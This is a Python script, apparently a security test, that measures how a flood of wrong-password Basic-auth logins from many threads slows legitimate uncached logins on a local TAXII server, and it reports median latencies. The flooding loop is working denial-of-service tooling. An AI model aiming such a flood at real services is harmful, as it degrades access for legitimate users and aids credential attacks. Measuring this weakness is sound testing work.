"""Login flood against `taxii serve` (issue 19, finding 3): the latency of uncached password
checks from one client address, alone and while other threads flood wrong passwords from
another address. Prints the medians and their ratio (flooded / alone), measured in the same
run. Usage: login_flood.py PORT FLOOD_THREADS SECONDS VICTIM_ACCOUNTS (accounts victimN,
password "right"; every victim login is a first login, so it is hashed, never cached)."""
import base64
import http.client
import statistics
import sys
import threading
import time

port, threads, seconds, victims = (int(a) for a in sys.argv[1:5])
DISCOVERY = (
    b'<taxii_11:Discovery_Request xmlns:taxii_11="http://taxii.mitre.org/messages/'
    b'taxii_xml_binding-1.1" message_id="1"/>'
)
HEADERS = {
    "Content-Type": "application/xml",
    "X-TAXII-Content-Type": "urn:taxii.mitre.org:message:xml:1.1",
    "X-TAXII-Accept": "urn:taxii.mitre.org:message:xml:1.1",
    "X-TAXII-Services": "urn:taxii.mitre.org:services:1.1",
    "X-TAXII-Protocol": "urn:taxii.mitre.org:protocol:http:1.0",
}


def discover(source, user, password):
    """One Discovery_Request; returns (seconds, whether it was let in)."""
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=120, source_address=(source, 0))
    h = dict(HEADERS)
    h["Authorization"] = "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()
    t = time.perf_counter()
    c.request("POST", "/services/discovery", DISCOVERY, h)
    body = c.getresponse().read()
    c.close()
    return time.perf_counter() - t, b"Discovery_Response" in body


def victim_round(first, count):
    out = []
    for i in range(first, first + count):
        dt, ok = discover("127.0.0.2", f"victim{i}", "right")
        assert ok, f"victim{i} was not let in"
        out.append(dt)
    return out


half = victims // 2
alone = victim_round(0, half)
stop = time.monotonic() + seconds
sent = [0]


def flood(n):
    while time.monotonic() < stop:
        discover("127.0.0.1", f"nobody{n}-{sent[0]}", "wrong")
        sent[0] += 1


workers = [threading.Thread(target=flood, args=(n,)) for n in range(threads)]
for w in workers:
    w.start()
time.sleep(0.5)
flooded = victim_round(half, victims - half)
for w in workers:
    w.join()
a, f = statistics.median(alone), statistics.median(flooded)
print(f"uncached login, median alone:   {a * 1000:.1f} ms ({len(alone)} logins)")
print(f"uncached login, median flooded: {f * 1000:.1f} ms ({len(flooded)} logins, "
      f"{threads} flooding threads, {sent[0]} wrong logins sent)")
print(f"ratio flooded/alone: {f / a:.2f}")
